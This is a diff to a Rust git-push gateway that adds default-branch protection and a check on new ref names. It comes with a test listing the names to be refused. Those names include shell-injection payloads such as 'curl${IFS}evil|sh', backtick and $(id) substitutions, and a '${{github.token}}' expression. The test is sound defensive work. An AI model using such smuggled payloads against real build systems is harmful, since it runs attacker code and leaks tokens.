@@ -4,13 +4,16 @@
 //! Branches follow the same [`BranchRules`] as in GitHub's API. A tag follows the rules of a branch with the same name.
 //! In addition, a tag is never moved or deleted, because others have built on it.
 
-use crate::branch::{BranchDenial, BranchRules};
+use crate::branch::{BranchDenial, BranchRules, Existing};
 use crate::refname;
 use crate::{AuthMode, Container, Denial, Rule};
 use serde::{Deserialize, Serialize};
 
 /// The most refs in one push. Each ref is looked up at GitHub before the push passes.
 pub const MAX_REFS: usize = 20;
+/// The most bytes of a push that the gateway holds back, parsed or not. They wait if they decompress to far more than
+/// usual.
+pub const MAX_UNSENT: usize = 16 << 20;
 
 /// How a refused push is reported to the client.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
@@ -44,7 +47,8 @@ pub enum Need {
     FastForward,
 }
 
-/// Judges `change` to the ref `name` by `container`. Returns the condition that the pack still has to meet.
+/// Judges `change` to the ref `name` by `container`, whose record has only the repository that is pushed to
+/// ([`Container::only`]). Returns the condition that the pack still has to meet.
 ///
 /// # Errors
 /// If the change is refused.
@@ -57,7 +61,11 @@ pub fn judge(rules: &BranchRules, container: &Container, name: &str, change: Cha
             return refuse(Rule::PushRef, format!("{name:?} is not a plain branch or tag; nothing else can be pushed"));
         }
     };
-    match rules.may_move(container, short) {
+    let existing = match change {
+        Change::Create => Existing::No,
+        Change::Update | Change::Delete => Existing::Yes,
+    };
+    match rules.may_move(container, None, short, existing) {
         Ok(()) => {}
         Err(BranchDenial::Malformed) => return refuse(Rule::PushRef, format!("{name:?} is not a plain branch or tag")),
         Err(BranchDenial::Protected) => {
@@ -69,8 +77,16 @@ pub fn judge(rules: &BranchRules, container: &Container, name: &str, change: Cha
                 format!("{short} is not one of this container's branches; {}", advice(container)),
             );
         }
+        Err(BranchDenial::Name(odd)) => return refuse(Rule::PushNewName, format!("{short:?} {odd}")),
+        Err(BranchDenial::Default) => {
+            let reason = format!("{short} is the repository's default branch; {}", advice(container));
+            return refuse(Rule::PushProtected, reason);
+        }
+        Err(BranchDenial::DefaultUnknown) => {
+            let reason = "the repository's default branch is still being looked up; push again in a few seconds";
+            return refuse(Rule::PushDefaultUnknown, reason.into());
+        }
     }
-    let own = || container.force_own_branches && container.allowed_branches.iter().any(|glob| glob.covers(short));
     match change {
         Change::Create => Ok(Need::Nothing),
         Change::Update if tag => {
@@ -84,7 +100,7 @@ pub fn judge(rules: &BranchRules, container: &Container, name: &str, change: Cha
             let reason = format!("{short} may not be deleted, nor any other; for other commits: {}", advice(container));
             refuse(Rule::PushDelete, reason)
         }
-        Change::Update if !rules.allow_force_push && !own() => Ok(Need::FastForward),
+        Change::Update if !rules.may_force(container, short) => Ok(Need::FastForward),
         Change::Update | Change::Delete => Ok(Need::Nothing),
     }
 }
@@ -118,7 +134,7 @@ mod tests {
 
     fn container(mode: &str, force: bool) -> Container {
         serde_json::from_str(&format!(
-            r#"{{"container_ip":"172.18.0.5","container_id":"a","repos":["o/r"],"auth_mode":"{mode}","force_own_branches":{force},"allowed_branches":["sandbox/*"],"expires_at":"2027-01-15T00:00:00Z"}}"#
+            r#"{{"container_ip":"172.18.0.5","container_id":"a","repos":[{{"name":"o/r","default_branch":"trunk"}}],"auth_mode":"{mode}","force_own_branches":{force},"allowed_branches":["sandbox/*"],"expires_at":"2027-01-15T00:00:00Z"}}"#
         ))
         .unwrap()
     }
@@ -176,6 +192,44 @@ mod tests {
                 assert_eq!(rule(&rules, &user, name, change), Err("push.ref"), "{name} {change:?}");
             }
         }
+    }
+
+    #[test]
+    fn a_new_ref_has_a_plain_name_and_the_default_branch_stays() {
+        use Change::{Create, Delete, Update};
+        let rules = BranchRules { allow_deletion: true, ..BranchRules::default() };
+        let (bot, user) = (container("bot", true), container("user", true));
+        let ff = Ok(Need::FastForward);
+        for (name, change, of_bot, of_user) in [
+            ("refs/heads/sandbox/x\";curl${IFS}evil|sh;#", Create, Err("push.new-name"), Ok(Need::Nothing)),
+            ("refs/heads/sandbox/`id`", Create, Err("push.new-name"), Ok(Need::Nothing)),
+            ("refs/heads/sandbox/${{github.token}}", Create, Err("push.new-name"), Ok(Need::Nothing)),
+            ("refs/tags/sandbox/$(id)", Create, Err("push.new-name"), Ok(Need::Nothing)),
+            ("refs/heads/sandbox/#1", Update, Ok(Need::Nothing), Ok(Need::Nothing)),
+            ("refs/heads/sandbox/#1", Delete, Ok(Need::Nothing), Ok(Need::Nothing)),
+            ("refs/heads/sandbox/HEAD", Create, Err("push.new-name"), Err("push.new-name")),
+            ("refs/heads/sandbox/HEAD", Update, Ok(Need::Nothing), Ok(Need::Nothing)),
+            ("refs/tags/sandbox/HEAD", Create, Err("push.new-name"), Err("push.new-name")),
+            ("refs/heads/heads/main", Create, Err("push.branch"), Err("push.new-name")),
+            ("refs/heads/trunk", Update, Err("push.branch"), Err("push.protected")),
+            ("refs/heads/Trunk", Create, Err("push.branch"), Err("push.protected")),
+            ("refs/heads/trunk", Delete, Err("push.branch"), Err("push.protected")),
+            ("refs/tags/trunk", Create, Err("push.branch"), Err("push.protected")),
+            ("refs/heads/other", Update, Err("push.branch"), ff),
+        ] {
+            assert_eq!(rule(&rules, &bot, name, change), of_bot, "bot {name} {change:?}");
+            assert_eq!(rule(&rules, &user, name, change), of_user, "user {name} {change:?}");
+        }
+        let unknown = Container { repos: vec![crate::Repo::parse("o/r").unwrap()], ..user };
+        for (change, expected) in
+            [(Create, Ok(Need::Nothing)), (Update, Err("push.default-unknown")), (Delete, Err("push.default-unknown"))]
+        {
+            assert_eq!(rule(&rules, &unknown, "refs/heads/trunk", change), expected, "{change:?}");
+        }
+        let denial = judge(&rules, &unknown, "refs/heads/trunk", Update).unwrap_err();
+        assert_eq!(denial.status, 503, "a retry helps");
+        let open = BranchRules { protect_default: false, ..rules };
+        assert_eq!(rule(&open, &unknown, "refs/heads/trunk", Update), ff);
     }
 
     #[test]
